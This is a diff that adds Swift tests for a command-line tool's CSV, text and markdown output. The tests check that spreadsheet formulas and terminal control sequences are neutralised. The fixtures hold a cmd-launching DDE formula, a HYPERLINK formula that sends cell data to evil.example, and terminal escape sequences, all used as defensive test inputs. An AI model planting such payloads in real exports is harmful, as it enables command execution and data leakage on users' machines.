@@ -16,3 +16,54 @@ import Testing
         #expect(result.stderr == "error: unknown data category '\(String(repeating: "x", count: 200))…'; `interco list data` prints the ids\n")
     }
 }
+
+/// `--format csv` for spreadsheets and `--csv-raw` for programs, through the built binary.
+@Suite struct CSVOutputTests {
+    static let arguments = ["who-can-reach", "bank-accounts", "--model", "csv-injection.yaml", "--at", "any", "--format", "csv"]
+
+    @Test func formulasAreNeutralisedAndControlsEscaped() throws {
+        let result = try Interco.run(Self.arguments)
+        #expect(result.exitCode == 0, "\(result.stderr)")
+        #expect(result.stdout == """
+            actor,name,how,match,hops,status,since,basis\r
+            tax,'@SUM(1+1)*cmd|' /C calc'!A0,holds,exact,0,in-force,,holds the file\r
+            evil,"'=HYPERLINK(""https://evil.example/?x=""&A1,""Voir"")",consultation,exact,1,in-force,,'+33 1 23 45 67 89\r
+            term,p\\u{0}x\\u{1B}]0;pwned\\u{7},consultation,exact,1,in-force,,'\\u{9}Tab first\r
+
+            """)
+        #expect(!result.stdout.unicodeScalars.contains { $0.value < 0x20 && $0 != "\r" && $0 != "\n" })
+    }
+
+    @Test func csvRawKeepsValuesByteForByte() throws {
+        let result = try Interco.run(Self.arguments + ["--csv-raw"])
+        #expect(result.exitCode == 0, "\(result.stderr)")
+        #expect(result.stdout.contains("\nevil,\"=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"Voir\"\")\","))
+        #expect(result.stdout.contains("\nterm,p\u{0}x\u{1B}]0;pwned\u{7},"))
+    }
+
+    @Test func csvRawNeedsCSV() throws {
+        let result = try Interco.run(["who-can-reach", "bank-accounts", "--model", "csv-injection.yaml", "--csv-raw"])
+        #expect(result.exitCode == 64)
+        #expect(result.stderr.contains("--csv-raw goes with --format csv"))
+    }
+
+    @Test func textAndMarkdownShowControlsEscaped() throws {
+        for format in ["text", "markdown"] {
+            let result = try Interco.run(["who-can-reach", "bank-accounts", "--model", "csv-injection.yaml", "--at", "any",
+                                          "--paths", "--format", format])
+            #expect(result.exitCode == 0)
+            #expect(result.stdout.contains(format == "text" ? "p\\u{0}x\\u{1B}]0;pwned\\u{7}" : "p\\u{0}x\\u{1B}\\]0;pwned\\u{7}"),
+                    "\(format)")
+            #expect(!result.stdout.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" }, "\(format)")
+        }
+    }
+
+    @Test func anUnknownIdIsEchoedEscapedAndCut() throws {
+        let id = "x\u{1B}[2J" + String(repeating: "y", count: 5_000)
+        let result = try Interco.run(["who-can-reach", id, "--model", "csv-injection.yaml"])
+        #expect(result.exitCode == 64)
+        #expect(result.stderr.hasPrefix("error: unknown data category 'x\\u{1B}[2Jyyy"))
+        #expect(result.stderr.contains("y…'"))
+        #expect(result.stderr.count < 400)
+    }
+}
